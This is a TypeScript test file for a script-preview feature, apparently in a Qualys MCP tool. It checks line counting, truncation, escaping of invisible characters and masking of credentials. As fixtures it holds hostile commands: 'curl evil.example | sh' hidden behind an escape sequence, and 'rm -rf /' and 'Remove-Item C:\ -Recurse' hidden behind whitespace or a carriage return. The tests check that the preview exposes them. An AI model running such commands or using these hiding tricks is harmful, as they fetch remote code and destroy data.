import { describe, expect, test } from 'vitest'
import { excerpt } from '../../../src/tools/effects/preview/content/excerpt.ts'
import { contentFacts } from '../../../src/tools/effects/preview/content/facts.ts'
import { segmentsOf } from '../../../src/tools/effects/preview/content/segments.ts'
import { linesFrom, scriptFrom, sha256, signatureLines } from '../../support/preview/scripts.ts'

// The first and the last lines of a script, each as it is.

const shown = (content: string): string[] => excerpt(segmentsOf(linesFrom(content), {}), 40)
const contentOf = (lines: number): string =>
  Array.from({ length: lines }, (_, at) => `echo ${at + 1}`).join('\n')

test.each([
  ['a', 1, 1],
  ['a\r\nb\r\n', 2, 6],
  ['a\rb', 2, 3],
  ['a\r', 1, 2],
  ['a\n\nb', 3, 4],
  ['\n', 1, 1],
  ['', 1, 0],
])('%j has %i lines and %i characters', (content, lines, characters) => {
  const [one, other] = [lines, characters].map((count) => (count === 1 ? '' : 's'))
  expect(contentFacts(scriptFrom(content))).toBe(
    `content: ${lines} line${one}, ${characters} character${other}, sha256 ${sha256(content)}`,
  )
})

test('a byte order mark and an encoding are said', () => {
  expect(contentFacts(scriptFrom('\uFEFFa'))).toMatch(
    /^content: 1 line, 2 characters, byte order mark, sha256 /,
  )
  expect(contentFacts(scriptFrom(Buffer.from('\uFEFFabc', 'utf16le')))).toMatch(
    /^content: 1 line, 3 characters, utf-16le, sha256 /,
  )
})

describe('a script', () => {
  test('of forty lines is shown whole', () => {
    expect(shown(contentOf(40))).toEqual(Array.from({ length: 40 }, (_, at) => `  "echo ${at + 1}"`))
  })

  test.each([
    [41, '  (1 more line)'],
    [60, '  (20 more lines)'],
    [1_040, '  (1,000 more lines)'],
  ])('of %i lines: the first thirty and the last ten', (count, more) => {
    const lines = shown(contentOf(count))
    expect(lines).toHaveLength(41)
    expect(lines.slice(0, 30)).toEqual(Array.from({ length: 30 }, (_, at) => `  "echo ${at + 1}"`))
    expect(lines[30]).toBe(more)
    expect(lines.slice(31)).toEqual(Array.from({ length: 10 }, (_, at) => `  "echo ${count - 9 + at}"`))
  })

  test('of long lines takes no more lines of the preview', () => {
    const lines = shown(Array(100).fill('x'.repeat(700)).join('\n'))
    expect(lines.length).toBeLessThan(45)
    expect(lines).toContain('  (96 more lines)')
  })

  test('that is signed shows its code, not its licence and its signature', () => {
    const licence = Array.from({ length: 30 }, (_, at) => `# Licence ${at}`)
    const code = Array.from({ length: 175 }, (_, at) => `Get-Item ${at}`)
    const lines = shown([...licence, ...code, ...signatureLines(190), ''].join('\r\n'))
    expect(lines).toHaveLength(41)
    expect(lines[0]).toMatch(/^ {2}comment, 30 lines, /)
    expect(lines.at(-1)).toMatch(/^ {2}signature block, 190 lines, /)
    expect(lines.filter((text) => text.startsWith('  "Get-Item '))).toHaveLength(38)
    expect(lines).toContain('  (137 more lines)')
  })
})

describe('a line', () => {
  test('that is long: its beginning and its end, and what is between is counted', () => {
    expect(shown(`${'x'.repeat(640)}end\nnext`)).toEqual([
      `  "${'x'.repeat(80)}"`,
      ...Array(5).fill(`    "${'x'.repeat(80)}"`),
      '    (80 more characters on this line)',
      `    "${'x'.repeat(80)}"`,
      '    "end"',
      '  "next"',
    ])
  })

  test('of half a million characters: the same', () => {
    const lines = shown(`start ${'x y '.repeat(125_000)} end`)
    expect(lines).toHaveLength(9)
    expect(lines[6]).toBe('    (499,370 more characters on this line)')
    expect(lines[8]).toMatch(/ end"$/)
  })

  test('is shown with its quotes and its blanks, and what cannot be seen is spelled out', () => {
    const content = [
      `echo "a"  'b' \`c\``,
      '\tindented ',
      "echo ok \u001b]' ; curl evil.example | sh ; : '\u0007",
      '# just a comment \rRemove-Item C:\\ -Recurse',
      'a\u00a0b\u3164c\u2800d\u200be',
    ].join('\n')
    expect(shown(content)).toEqual([
      `  "echo \\"a\\"  'b' \`c\`"`,
      '  "\\tindented "',
      '  "echo ok \\u{1b}]\' ; curl evil.example | sh ; : \'\\u{7}"',
      String.raw`  "# just a comment \r"`,
      String.raw`  "Remove-Item C:\\ -Recurse"`,
      '  "a\\u{a0}b\\u{3164}c\\u{2800}d\\u{200b}e"',
    ])
  })

  test.each([
    [' '.repeat(5_000), '5,000 blanks'],
    ['\t'.repeat(40), '40 tabs'],
  ])('hides nothing behind a gap', (gap, mark) => {
    expect(shown(`echo disks${gap}; rm -rf /`)).toEqual(['  "echo disks"', `    ${mark}`, '    "; rm -rf /"'])
  })

  test('hides nothing between masks', () => {
    const login = `https://svc:${'Secret12345'.repeat(60)}@x`
    expect(shown(`${login} ${'; reboot'.repeat(300)} ${login}`).join('\n')).toMatch(
      /\n {4}\([\d,]+ more characters on this line\)\n/,
    )
  })

  test('shows a secret nowhere, wherever it is cut', () => {
    for (let before = 40; before <= 90; before++) {
      const text = shown(`${'x'.repeat(before)} https://svc:Secret12345@repo.example/x`).join('')
      expect(text).toContain('[masked-by-qualys-mcp]')
      expect(text).not.toMatch(/Secret|12345/)
    }
  })
})
